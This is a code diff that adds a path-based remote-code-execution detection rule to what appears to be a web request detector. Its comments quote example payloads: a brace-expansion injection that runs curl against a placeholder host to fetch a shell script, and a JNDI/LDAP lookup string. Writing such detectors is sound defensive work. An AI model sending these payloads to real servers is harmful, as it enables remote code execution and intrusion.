@@ -211,6 +211,9 @@ function jsonStrings(t: string): string[] | null {
 
 const isRceAfterBreak = (s: string): boolean => (s.includes('\n') || s.includes('\r')) && isRce(s);
 
+/** `;{`, `|{`, `&{`: a brace group opened where a command may start. */
+const hasBraceGroupAfterSeparator = (t: string): boolean => t.includes(';{') || t.includes('|{') || t.includes('&{');
+
 /** Headers that carry the name of an uploaded file (upload APIs without multipart). */
 const FILE_NAME_HEADERS = new Set([
   'x-file-name',
@@ -442,6 +445,15 @@ export const DETECTORS: Detector[] = [
     longestMatch: 32,
     applies: (v) => v.kind === 'key',
     test: (t) => isLoaderVariableName(t),
+  },
+  // A brace group run after a separator spans segments when its URL has slashes
+  // (`/x;{curl,http://host/a.sh};`, bash's brace expansion, SonicWall CVE-2021-20038): the whole
+  // path is read for shell when it has one. rce's gate, shared (the gate bits are few).
+  {
+    cls: 'rce',
+    gate: SHELL_OR_QUOTE,
+    applies: (v) => v.kind === 'path',
+    test: (t) => hasBraceGroupAfterSeparator(t) && isRce(t),
   },
   // A lookup spans segments when its URL has slashes (`/api/x/${jndi:ldap://host/a}`): read on the whole path.
   { cls: 'rce', gate: /[$]/, applies: (v) => v.kind === 'path', test: (t) => t.includes('${') && isJndiLookup(t) },
